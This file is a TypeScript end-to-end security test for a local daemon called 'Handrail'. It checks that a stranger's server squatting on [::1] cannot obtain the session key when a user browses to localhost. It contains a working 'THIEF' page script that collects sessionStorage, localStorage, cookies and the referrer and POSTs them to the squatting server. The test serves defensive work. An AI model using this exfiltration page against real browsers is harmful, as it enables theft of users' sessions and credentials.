import { once } from 'node:events';
import { createServer as createHttpServer } from 'node:http';
import { connect, createServer, type Server, type Socket } from 'node:net';
import { chromium, type Page } from 'playwright';
import { expect, onTestFinished, test } from 'vitest';
import { buildPageIfNeeded } from '../../renderer/build-if-needed.ts';
import { callAt, startDaemonProcess } from '../e2e/daemon.ts';
import { HEADLESS_SHELL, QUIET } from './chromium.ts';
import { typeCode } from './page-rig.ts';

/** Sends home everything that a page of its origin can read. */
const THIEF = `<!doctype html><title>Handrail</title><script>
const loot = { session: {...sessionStorage}, local: {...localStorage}, cookie: document.cookie, from: document.referrer };
fetch('/loot', { method: 'POST', body: JSON.stringify(loot) }).then(() => { document.title = 'done'; });
</script>`;

/** A browser for which the name localhost is `[::1]`, as it is for many programs. */
async function openPage(): Promise<Page> {
  buildPageIfNeeded();
  const args = [...QUIET, '--host-resolver-rules=MAP localhost [::1]'];
  const browser = await chromium.launch({ executablePath: HEADLESS_SHELL, args });
  onTestFinished(() => browser.close());
  return browser.newPage();
}

/** Takes `[::1]` and a port. Fails, as it should, on a machine without IPv6. */
async function listenOn(server: Server, port: number): Promise<{ close(): Promise<void> }> {
  const sockets = new Set<Socket>();
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy());
  });
  server.listen({ host: '::1', port, ipv6Only: true });
  await once(server, 'listening');
  const close = async () => {
    for (const socket of sockets) socket.destroy();
    if (server.listening) await new Promise((resolve) => server.close(resolve));
  };
  onTestFinished(close);
  return { close };
}

/** Stands for a browser that falls back to 127.0.0.1 as long as nobody has `[::1]`. */
function createFallback(port: number): Server {
  return createServer((socket) => {
    const daemon = connect(port, '127.0.0.1');
    daemon.on('error', () => socket.destroy());
    socket.pipe(daemon).pipe(socket);
  });
}

/** A stranger's server. It keeps every byte it is sent, and answers with a page that steals. */
function createStranger(): { server: Server; heard: string[] } {
  const heard: string[] = [];
  const server = createHttpServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString();
    });
    request.on('end', () => {
      heard.push(`${request.method} ${request.url} ${request.rawHeaders.join(' ')} ${body}`);
      response.setHeader('content-type', 'text/html').end(THIEF);
    });
  });
  return { server, heard };
}

test('U2: a person who goes by localhost is led to 127.0.0.1, so a stranger who then takes [::1] never gets the key', async () => {
  const daemon = await startDaemonProcess({ HANDRAIL_AGENT_DRIVER: 'fake' });
  onTestFinished(daemon.stop);
  const page = await openPage();
  const fallback = await listenOn(createFallback(daemon.port), daemon.port);
  await page.goto(`http://localhost:${daemon.port}/`);
  await typeCode(page, daemon.signInCode);
  await page.getByText('No requests waiting').waitFor();
  const key = await page.evaluate(() => Object.values(sessionStorage).join(' '));
  expect([page.url(), key]).toEqual([`${daemon.base}/`, expect.stringMatching(/^[\w-]{43}$/)]);
  await fallback.close();
  const stranger = createStranger();
  await listenOn(stranger.server, daemon.port);
  await page.goto(`http://localhost:${daemon.port}/`);
  await page.waitForFunction(() => document.title === 'done');
  const requests = stranger.heard.map((text) => text.split(' ', 2).join(' '));
  expect(requests).toEqual(expect.arrayContaining(['GET /', 'POST /loot']));
  expect(stranger.heard.filter((text) => text.includes(key))).toEqual([]);
  await page.goto(daemon.base);
  await page.getByText('No requests waiting').waitFor();
});

test('U2: without a browser, too, neither a code nor a key is taken under the name localhost', async () => {
  const daemon = await startDaemonProcess({ HANDRAIL_AGENT_DRIVER: 'fake' });
  onTestFinished(daemon.stop);
  const base = `http://localhost:${daemon.port}`;
  const answer = await callAt<{ code: string }>(base, '/api/console/session', {
    body: { code: daemon.signInCode },
    headers: { origin: base },
  });
  expect([answer.status, answer.body.code]).toEqual([403, 'host_not_allowed']);
  expect((await daemon.signIn()).key).toMatch(/^[\w-]{43}$/);
});
